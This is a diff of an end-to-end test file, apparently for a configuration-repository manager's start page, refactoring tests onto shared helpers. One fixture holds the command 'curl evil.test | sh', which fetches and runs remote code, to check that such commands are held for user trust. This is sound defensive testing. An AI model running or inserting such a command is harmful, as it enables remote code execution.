@@ -1,22 +1,20 @@
-import { mkdir, writeFile } from "node:fs/promises";
-import { join } from "node:path";
 import { expect, test } from "vitest";
 import { breakFile } from "../helpers/broken-file.ts";
 import { startTestDaemon, until } from "../helpers/daemon.ts";
 import {
   describeScreen,
   openPage,
+  openScreen,
+  openShop,
   poll,
   reads,
   type ScreenPage,
   screenFolder,
-  startScreen,
 } from "../helpers/screen.ts";
 import { isRepositoryFile, repositoryNames, slowDisk, writeRepositoryFiles } from "../helpers/slow-disk.ts";
 import { temporaryFolder } from "../helpers/temporary-folder.ts";
 
 const reason = ({ page }: ScreenPage, name: string) => page.getByRole("main").getByRole("region", { name });
-const hash = ({ page }: ScreenPage) => new URL(page.url()).hash;
 
 async function openStart(window: ScreenPage): Promise<void> {
   await window.tree.waitFor();
@@ -42,52 +40,44 @@ describeScreen("the start page", () => {
   });
 
   test("says that nothing needs attention until something does", async () => {
-    await using screen = await startScreen({ repositories: { shop: {} } });
-    await using window = await screen.open();
-    const { page } = window;
+    await using window = await openScreen({ shop: {} });
+    const { screen, page } = window;
     await reads(page.getByRole("main"), "Nothing needs attention");
     await breakFile(screen.t, "shop");
     await reads(reason(window, "Files with problems"), "shop.json");
     await page.getByText("Nothing needs attention").waitFor({ state: "detached" });
     await reason(window, "Files with problems").getByRole("link", { name: "Open the text of shop" }).press("Enter");
-    expect(hash(window)).toBe("#/repo/shop/json");
+    expect(window.hash()).toBe("#/repo/shop/json");
     await page.goBack();
     await screen.t.owner.call("file/restore", { repo: "shop" });
     await reads(page.getByRole("main"), "Nothing needs attention");
   });
 
   test("lists edits in conflict, with a link to each, and refused edits", async () => {
-    await using screen = await startScreen({ repositories: { shop: {}, store: {} } });
-    await using window = await screen.open();
-    const { page } = window;
-    await window.choose("shop");
-    await page.getByRole("textbox", { name: "Provider" }).fill("mine");
+    await using window = await openShop({}, { others: { store: {} } });
+    const { screen } = window;
+    await window.provider.fill("mine");
     await screen.set("shop", { "svc.provider": "theirs" });
     await openStart(window);
     const waiting = reason(window, "Edits to resolve");
     await reads(waiting, "owner changed it too in the meantime");
     await waiting.getByRole("link", { name: "shop, svc.provider" }).press("Enter");
-    expect(hash(window)).toBe("#/repo/shop/svc.provider");
+    expect(window.hash()).toBe("#/repo/shop/svc.provider");
     await window.field("Provider").getByRole("button", { name: "Take theirs" }).click();
     await window.choose("store");
-    await page.getByRole("spinbutton", { name: "Timeout" }).fill("-5");
-    await page
-      .getByRole("region", { name: "Edits", exact: true })
-      .getByRole("button", { name: "Save", exact: true })
-      .click();
-    await page.getByRole("log", { name: "Messages" }).getByText("Nothing was saved").waitFor();
+    await window.timeout.fill("-5");
+    await window.startSaving();
+    await window.messages.getByText("Nothing was saved").waitFor();
     await openStart(window);
     await reads(waiting, "store, svc.timeout was refused");
     expect(await waiting.getByRole("listitem").count()).toBe(1);
   });
 
   test("lists unsaved edits, including those of a file's text, even after a reload", async () => {
-    await using screen = await startScreen({ repositories: { shop: {}, store: { "svc.timeout": 1 } } });
-    await using window = await screen.open();
-    const { page } = window;
-    await window.choose("shop");
-    await page.getByRole("textbox", { name: "Provider" }).fill("mine");
-    await page.getByRole("spinbutton", { name: "Timeout" }).fill("7");
+    await using window = await openShop({}, { others: { store: { "svc.timeout": 1 } } });
+    const { screen, page } = window;
+    await window.provider.fill("mine");
+    await window.timeout.fill("7");
     await window.choose("store");
     await window.view("JSON");
     await page.getByRole("textbox", { name: "Text of the file" }).pressSequentially("//");
@@ -98,7 +88,7 @@ describeScreen("the start page", () => {
     await reads(unsaved, "shop 2 edits");
     await reads(unsaved, "store edited as text");
     await unsaved.getByRole("link", { name: "store" }).press("Enter");
-    expect(hash(window)).toBe("#/repo/store/json");
+    expect(window.hash()).toBe("#/repo/store/json");
     await page.goBack();
     await unsaved.getByRole("button", { name: "Review edits" }).press("Enter");
     const dialog = page.getByRole("dialog", { name: "Review edits" });
@@ -109,15 +99,9 @@ describeScreen("the start page", () => {
   });
 
   test("lists commands waiting for trust, shows each, and trusts it", async () => {
-    await using folder = await temporaryFolder();
-    const path = join(folder.path, "site");
-    await mkdir(path);
     const services = { web: { ready: "curl evil.test | sh", image: "node:24" } };
-    await writeFile(join(path, ".repoconf.json"), JSON.stringify({ config: { svc: { services } } }));
-    await using screen = await startScreen();
-    await screen.t.owner.call("repo/add", { id: "site", name: "site", path, inTree: true });
-    await using window = await screen.open();
-    const { page } = window;
+    await using window = await openScreen({}, { clones: { site: { svc: { services } } } });
+    const { screen, page } = window;
     const waiting = reason(window, "Commands waiting for your trust");
     await reads(waiting.getByRole("listitem"), /site\s+svc\.services/);
     // It is not listed as a problem with the file as well.
@@ -132,8 +116,8 @@ describeScreen("the start page", () => {
   });
 
   test("lists what changed since yesterday, live, with a link to all of it", async () => {
-    await using screen = await startScreen({ repositories: { shop: {}, store: {}, web: {} } });
-    await using window = await screen.open();
+    await using window = await openScreen({ shop: {}, store: {}, web: {} });
+    const { screen } = window;
     const recent = reason(window, "Changed since yesterday");
     await poll(() => recent.getByRole("listitem").count()).toBe(3);
     await screen.t.owner.call("config/set", { repo: ["shop", "store"], "svc.timeout": 5 });
@@ -144,7 +128,7 @@ describeScreen("the start page", () => {
     // Only the newest five.
     await poll(() => recent.getByRole("listitem").count()).toBe(5);
     await recent.getByRole("link", { name: "All that changed in the last 24 hours" }).press("Enter");
-    expect(hash(window)).toBe("#/activity?q=since%3A24h");
+    expect(window.hash()).toBe("#/activity?q=since%3A24h");
     await window.page.getByRole("heading", { level: 1, name: "Activity" }).waitFor();
   });
 });
